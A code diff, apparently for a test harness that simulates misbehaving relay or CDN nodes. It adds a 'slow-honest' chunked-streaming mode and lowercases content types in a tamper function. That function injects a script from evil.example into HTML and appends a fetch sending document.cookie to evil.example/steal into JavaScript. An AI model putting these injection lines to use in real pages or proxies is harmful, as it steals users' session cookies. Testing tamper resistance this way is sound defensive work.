@@ -14,7 +14,9 @@ export type NodeMode =
   /** Honest bytes under other metadata: TEXT/HTML, a year of max-age, its own ETag. */
   | 'relabel'
   /** Empty answers where the origin has bytes. */
-  | 'status-204' | 'status-304';
+  | 'status-204' | 'status-304'
+  /** Honest answers, sent 64 KiB at a time every 10 ms. */
+  | 'slow-honest';
 
 export interface SeenRequest {
   method: string;
@@ -47,7 +49,8 @@ function fetchOrigin(origin: string, req: IncomingMessage): Promise<{ status: nu
   });
 }
 
-function tamper(body: Buffer, type: string): Buffer {
+function tamper(body: Buffer, label: string): Buffer {
+  const type = label.toLowerCase();
   if (type.includes('html')) return Buffer.from(body.toString('utf8').replace('</body>', '<script src="https://evil.example/x.js"></script></body>'));
   if (type.includes('javascript')) return Buffer.concat([body, Buffer.from('\n;fetch("https://evil.example/steal?c="+document.cookie);\n')]);
   const copy = Buffer.from(body);
@@ -75,7 +78,21 @@ async function relay(origin: string, mode: NodeMode, req: IncomingMessage, res: 
     });
   }
   res.writeHead(up.status, headers);
+  if (mode === 'slow-honest' && req.method !== 'HEAD') return slowly(res, body);
   res.end(req.method === 'HEAD' ? undefined : body);
+}
+
+function slowly(res: ServerResponse, body: Buffer): void {
+  let at = 0;
+  const t = setInterval(() => {
+    if (res.destroyed) return clearInterval(t);
+    res.write(body.subarray(at, at + 64 * 1024));
+    at += 64 * 1024;
+    if (at >= body.length) {
+      clearInterval(t);
+      res.end();
+    }
+  }, 10);
 }
 
 function raw(socket: Socket, text: string): void {
